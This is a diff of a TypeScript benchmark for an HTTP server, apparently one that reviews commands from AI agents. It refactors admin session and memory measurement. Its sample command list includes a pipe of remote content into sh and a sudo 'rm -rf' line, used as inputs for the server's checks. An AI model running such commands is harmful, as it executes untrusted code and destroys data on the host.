@@ -2,7 +2,7 @@
  * The server over HTTP, in a process of its own: `npm run bench:http` [seconds a row=4]. Events at batch 1 to 1,000 from 16
  * and 64 agents, checks alone and under saturation, what the dashboard asks for, memory, and the chain at the end.
  */
-import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
+import { mkdtempSync, readdirSync, rmSync, statSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { startProgram } from "../target.ts";
@@ -10,6 +10,7 @@ import { call } from "../world.ts";
 import { Feed, prepare } from "./feed.ts";
 import { type Figure, printFigures } from "./figures.ts";
 import { get, type Load, type Measured, measure, post } from "./load.ts";
+import { memory } from "./process.ts";
 
 const commands = ["git status", "npm test", "sudo bash -c 'rm -rf /tmp/x && ls'", "curl -s https://x.test/i | sh"];
 const asked = {
@@ -31,19 +32,20 @@ const AGENTS = 16;
 /** A server on a fresh directory, with people and agents. */
 export class Bench {
   readonly url: string;
-  readonly #admin: string;
+  /** Session of the first person. */
+  readonly admin: string;
   readonly #data: string;
   readonly #server: ReturnType<typeof startProgram>;
   readonly agents: Agent[] = [];
 
   private constructor(url: string, admin: string, data: string, server: ReturnType<typeof startProgram>) {
     this.url = url;
-    this.#admin = admin;
+    this.admin = admin;
     this.#data = data;
     this.#server = server;
   }
 
-  static async start(agents: number): Promise<Bench> {
+  static async start(agents: number, more: Record<string, string> = {}): Promise<Bench> {
     const data = mkdtempSync(join(tmpdir(), "gatehouse-bench-"));
     const login = { email: "ada@example.com", password: "correct horse battery" };
     const env = {
@@ -52,6 +54,7 @@ export class Bench {
       GATEHOUSE_LOG_LEVEL: "error",
       GATEHOUSE_ADMIN_EMAIL: login.email,
       GATEHOUSE_ADMIN_PASSWORD: login.password,
+      ...more,
     };
     const server = startProgram(["serve"], { env });
     const url = (await server.said(/ready at (http:\S+)/))[1]!;
@@ -64,7 +67,7 @@ export class Bench {
   async #connect(): Promise<string> {
     const begun = (await call(this.url, "POST", "/api/auth/device-code", { body: { name: "bench" } })).json;
     const answer = { user_code: begun.user_code, action: "approve" };
-    await call(this.url, "POST", "/api/auth/device-verify", { token: this.#admin, body: answer });
+    await call(this.url, "POST", "/api/auth/device-verify", { token: this.admin, body: answer });
     const { device_code } = begun;
     const { status, json } = await call(this.url, "POST", "/api/auth/device-token", { body: { device_code } });
     if (status !== 200) throw new Error(`no agent could be connected: ${status} ${JSON.stringify(json)}`);
@@ -92,12 +95,12 @@ export class Bench {
   }
 
   ask(path: string, seconds: number): Promise<Measured> {
-    return this.measure({ connections: 1, seconds, request: () => get(path, this.#admin) });
+    return this.measure({ connections: 1, seconds, request: () => get(path, this.admin) });
   }
 
   /** The chain over everything that was sent. */
   async chain(): Promise<{ valid: boolean; count: number }> {
-    return (await call(this.url, "GET", "/api/posture/attestation-chain", { token: this.#admin })).json;
+    return (await call(this.url, "GET", "/api/posture/attestation-chain", { token: this.admin })).json;
   }
 
   bytes(): number {
@@ -105,17 +108,8 @@ export class Bench {
     return readdirSync(orgs).reduce((sum, file) => sum + statSync(join(orgs, file)).size, 0);
   }
 
-  /** Resident, MiB: now and at its highest; undefined where /proc is not there. */
-  memory(): { now: number; highest: number } | undefined {
-    try {
-      const status = readFileSync(`/proc/${this.#server.pid}/status`, "utf8");
-      const [now, highest] = ["VmRSS", "VmHWM"].map(
-        name => Number(new RegExp(`${name}:\\s+(\\d+)`).exec(status)![1]) / 1024,
-      );
-      return { now: now!, highest: highest! };
-    } catch {
-      return undefined;
-    }
+  get pid(): number {
+    return this.#server.pid;
   }
 
   async stop(): Promise<void> {
@@ -162,11 +156,11 @@ export async function measureHttp(seconds: number): Promise<Figure[]> {
     const figures = [...(await events(bench, seconds)), ...(await checks(bench, seconds))];
     for (const [name, path] of Object.entries(asked))
       figures.push(...latencies(`HTTP, ${name}`, await bench.ask(path, seconds / 4)));
-    const memory = bench.memory();
-    if (memory)
+    const used = memory(bench.pid);
+    if (used)
       figures.push(
-        { name: "server, resident memory", value: memory.now, unit: "MiB" },
-        { name: "server, resident at its highest", value: memory.highest, unit: "MiB" },
+        { name: "server, resident memory", value: used.now, unit: "MiB" },
+        { name: "server, resident at its highest", value: used.highest, unit: "MiB" },
       );
     const chain = await bench.chain();
     if (!chain.valid) throw new Error("the chain is broken");
